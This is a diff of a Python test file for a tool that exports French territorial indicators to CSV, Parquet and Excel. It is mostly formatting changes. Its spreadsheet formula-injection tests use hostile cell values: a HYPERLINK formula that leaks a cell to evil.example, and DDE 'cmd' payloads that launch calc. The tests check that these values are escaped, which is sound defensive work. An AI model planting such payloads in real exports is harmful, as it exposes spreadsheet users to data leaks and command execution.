@@ -17,10 +17,10 @@ import pytest
 from typer.testing import CliRunner
 
 from flows.cli import app
-from sources.refresh import refresh
-from storage.store import Store
 from sources.demo import MIRROR_ROOT
 from sources.mirror import serve
+from sources.refresh import refresh
+from storage.store import Store
 from transforms.export import COLUMNS_FR, DEMO_COLUMN_FR, definitions, write_exports
 from transforms.pipeline import Selection, export_indicators
 from transforms.registry import indicators
@@ -66,11 +66,11 @@ def test_csv_is_french_spreadsheet_friendly(epci_export):
     table, paths = epci_export
     raw = paths["csv"].read_bytes()
     assert raw.startswith(BOM)  # Excel reads UTF-8 only with it
-    text = raw[len(BOM):].decode("utf-8")
+    text = raw[len(BOM) :].decode("utf-8")
     header = text.splitlines()[0].split(";")
     assert header[:5] == ["niveau", "code", "nom", "thème", "indicateur"]
     assert set(header) <= set(COLUMNS_FR.values()) | {DEMO_COLUMN_FR}
-    back = pl.read_csv(raw[len(BOM):], separator=";", decimal_comma=True, infer_schema=False)
+    back = pl.read_csv(raw[len(BOM) :], separator=";", decimal_comma=True, infer_schema=False)
     assert back.height == table.height
     # the value of a non-integer rate is written with a decimal comma, rounded to 3 decimals
     row = table.filter((pl.col("level") == "EPCI") & (pl.col("indicator") == "taux_chomage_rp")).row(0, named=True)
@@ -102,7 +102,7 @@ def test_demo_exports_say_their_figures_are_synthetic(epci_export, tmp_path):
     parquet = pl.read_parquet(paths["parquet"])
     assert parquet["demo"].dtype == pl.Boolean and parquet["demo"].to_list() == [True] * table.height
     assert parquet.drop("demo").equals(table)
-    csv = pl.read_csv(paths["csv"].read_bytes()[len(BOM):], separator=";", decimal_comma=True, infer_schema=False)
+    csv = pl.read_csv(paths["csv"].read_bytes()[len(BOM) :], separator=";", decimal_comma=True, infer_schema=False)
     assert csv["données"].unique().to_list() == ["synthétiques (démonstration)"]
     book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
     assert book.sheetnames == ["À lire", "indicateurs", "définitions"]  # the warning is the sheet Excel opens on
@@ -110,10 +110,11 @@ def test_demo_exports_say_their_figures_are_synthetic(epci_export, tmp_path):
     book.close()
     assert first[0].startswith("DÉMONSTRATION") and any("inventés" in line for line in first)
     assert pl.read_excel(paths["xlsx"], sheet_name="indicateurs")["données"].unique().to_list() == [
-        "synthétiques (démonstration)"]
+        "synthétiques (démonstration)"
+    ]
     # the real exports carry no such column
     assert "demo" not in pl.read_parquet(plain["parquet"]).columns
-    assert "données" not in plain["csv"].read_bytes()[len(BOM):].decode("utf-8").splitlines()[0].split(";")
+    assert "données" not in plain["csv"].read_bytes()[len(BOM) :].decode("utf-8").splitlines()[0].split(";")
 
 
 def test_a_custom_territory_export_is_named_after_it(store, tmp_path):
@@ -129,16 +130,22 @@ def _run(*args: str):
     return CliRunner().invoke(app, ["indicators", *args])
 
 
-@pytest.mark.parametrize("args, stem, levels", [
-    (["--epci", CSMA], f"epci-{CSMA}", {"COM", "EPCI", "DEP", "FRANCE"}),
-    (["--commune", "44043"], "commune-44043", {"COM", "EPCI", "DEP", "FRANCE"}),
-    (["--communes", "44043,44064", "--name", "Clisson et Gorges"], "clisson-et-gorges",
-     {"COM", "TERRITORY", "EPCI", "DEP", "FRANCE"}),
-    # the national table holds the arrondissements of Paris and Lyon too (level ARM, never summed into a city)
-    (["--all"], "france", {"COM", "ARM", "EPCI", "DEP", "FRANCE"}),
-    # an arrondissement: itself (ARM), its whole city (COM 75056), the city's EPCI, Paris (75) and France
-    (["--commune", "75101"], "commune-75101", {"ARM", "COM", "EPCI", "DEP", "FRANCE"}),
-])
+@pytest.mark.parametrize(
+    "args, stem, levels",
+    [
+        (["--epci", CSMA], f"epci-{CSMA}", {"COM", "EPCI", "DEP", "FRANCE"}),
+        (["--commune", "44043"], "commune-44043", {"COM", "EPCI", "DEP", "FRANCE"}),
+        (
+            ["--communes", "44043,44064", "--name", "Clisson et Gorges"],
+            "clisson-et-gorges",
+            {"COM", "TERRITORY", "EPCI", "DEP", "FRANCE"},
+        ),
+        # the national table holds the arrondissements of Paris and Lyon too (level ARM, never summed into a city)
+        (["--all"], "france", {"COM", "ARM", "EPCI", "DEP", "FRANCE"}),
+        # an arrondissement: itself (ARM), its whole city (COM 75056), the city's EPCI, Paris (75) and France
+        (["--commune", "75101"], "commune-75101", {"ARM", "COM", "EPCI", "DEP", "FRANCE"}),
+    ],
+)
 def test_the_indicators_command_writes_the_exports(store, tmp_path, args, stem, levels):
     result = _run(*args, "--data-dir", str(store.root), "--out", str(tmp_path))
     assert result.exit_code == 0, result.output
@@ -155,16 +162,19 @@ def test_the_indicators_command_writes_the_exports(store, tmp_path, args, stem, 
         assert table.filter(pl.col("level") == "ARM")["code"].unique().to_list() == ["75101"]
 
 
-@pytest.mark.parametrize("args, message", [
-    (["--epci", "12345"], "an EPCI is named by its SIREN, 9 digits (200067346), not '12345'"),
-    (["--epci", "2000673AB"], "an EPCI is named by its SIREN, 9 digits (200067346), not '2000673AB'"),
-    (["--epci", "200067347"], "200067347 is not a valid SIREN: its check digit is wrong"),
-    (["--commune", "4404"], "5 characters"),
-    (["--communes", "44043,ABCDE"], "a commune code has 5 characters (44043, 2A004), not 'ABCDE'"),
-    (["--epci", "200000172"], "not in the target COG's EPCI composition"),  # a valid check digit
-    (["--commune", "99999"], "not in the target COG"),
-    (["--epci", CSMA, "--commune", "44043"], "exactly one of"),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (["--epci", "12345"], "an EPCI is named by its SIREN, 9 digits (200067346), not '12345'"),
+        (["--epci", "2000673AB"], "an EPCI is named by its SIREN, 9 digits (200067346), not '2000673AB'"),
+        (["--epci", "200067347"], "200067347 is not a valid SIREN: its check digit is wrong"),
+        (["--commune", "4404"], "5 characters"),
+        (["--communes", "44043,ABCDE"], "a commune code has 5 characters (44043, 2A004), not 'ABCDE'"),
+        (["--epci", "200000172"], "not in the target COG's EPCI composition"),  # a valid check digit
+        (["--commune", "99999"], "not in the target COG"),
+        (["--epci", CSMA, "--commune", "44043"], "exactly one of"),
+    ],
+)
 def test_the_indicators_command_refuses_malformed_codes(store, tmp_path, args, message):
     result = _run(*args, "--data-dir", str(store.root), "--out", str(tmp_path))
     assert result.exit_code != 0
@@ -177,9 +187,18 @@ def test_an_export_longer_than_an_excel_sheet_spans_several_sheets(tmp_path, mon
     from transforms import export
 
     monkeypatch.setattr(export, "XLSX_MAX_ROWS", 2)
-    table = pl.DataFrame({"level": ["COM"] * 5, "code": [f"0100{i}" for i in range(1, 6)], "indicator": ["population"] * 5,
-                          "value": [1.0, 2.0, 3.0, 4.0, 5.0], "status": [None] * 5, "unit": ["count"] * 5,
-                          "evolution_unit": [None] * 5}, schema_overrides={"status": pl.String, "evolution_unit": pl.String})
+    table = pl.DataFrame(
+        {
+            "level": ["COM"] * 5,
+            "code": [f"0100{i}" for i in range(1, 6)],
+            "indicator": ["population"] * 5,
+            "value": [1.0, 2.0, 3.0, 4.0, 5.0],
+            "status": [None] * 5,
+            "unit": ["count"] * 5,
+            "evolution_unit": [None] * 5,
+        },
+        schema_overrides={"status": pl.String, "evolution_unit": pl.String},
+    )
     paths = export.write_exports(table, tmp_path, "t")
     book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
     # 5 rows, 2 per sheet: 2 + 2 + 1
@@ -203,7 +222,7 @@ BENIGN = {"01007": "Saint-Léger-sous-Cholet", "01008": "L'Abergement-Clémencia
 
 def csv_rows(path: Path) -> list[dict[str, str]]:
     """The CSV as the text a spreadsheet receives, cell by cell."""
-    text = path.read_bytes()[len(BOM):].decode("utf-8")
+    text = path.read_bytes()[len(BOM) :].decode("utf-8")
     return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
 
 
@@ -235,17 +254,26 @@ def assert_no_formula_nor_link(path: Path) -> None:
 def hostile_table() -> pl.DataFrame:
     names = {**HOSTILE, **BENIGN}
     n = len(names)
-    return pl.DataFrame({
-        "level": ["COM"] * n, "code": list(names), "name": list(names.values()), "indicator": ["population"] * n,
-        "value": [-0.5] + [10.0] * (n - 1), "evolution": [-1.25] + [2.0] * (n - 1), "status": [None] * n,
-        "unit": ["count"] * n, "evolution_unit": ["percent_per_year"] * n,
-    }, schema_overrides={"status": pl.String})
+    return pl.DataFrame(
+        {
+            "level": ["COM"] * n,
+            "code": list(names),
+            "name": list(names.values()),
+            "indicator": ["population"] * n,
+            "value": [-0.5] + [10.0] * (n - 1),
+            "evolution": [-1.25] + [2.0] * (n - 1),
+            "status": [None] * n,
+            "unit": ["count"] * n,
+            "evolution_unit": ["percent_per_year"] * n,
+        },
+        schema_overrides={"status": pl.String},
+    )
 
 
 def test_csv_text_cells_that_start_a_formula_get_a_leading_quote(tmp_path):
     paths = write_exports(hostile_table(), tmp_path, "hostile")
     rows = {row["code"]: row for row in csv_rows(paths["csv"])}
-    assert rows["01001"]["nom"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")"
+    assert rows["01001"]["nom"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
     assert rows["01002"]["nom"] == "'+1+1"
     assert rows["01003"]["nom"] == "'-2+3+cmd|' /C calc'!A0"
     assert rows["01004"]["nom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
@@ -272,8 +300,9 @@ def test_xlsx_writes_hostile_names_as_text_and_numbers_as_numbers(tmp_path):
 def test_the_definitions_sheet_writes_text_as_text_too(tmp_path, monkeypatch):
     from transforms import export
 
-    hostile = pl.DataFrame({"indicateur": ["population"], "définition": ["=1+1"], "précautions": ["@A1"],
-                            "effectif minimal": [-3]})
+    hostile = pl.DataFrame(
+        {"indicateur": ["population"], "définition": ["=1+1"], "précautions": ["@A1"], "effectif minimal": [-3]}
+    )
     monkeypatch.setattr(export, "definitions", lambda: hostile)
     paths = export.write_exports(hostile_table(), tmp_path, "hostile")
     assert_no_formula_nor_link(paths["xlsx"])
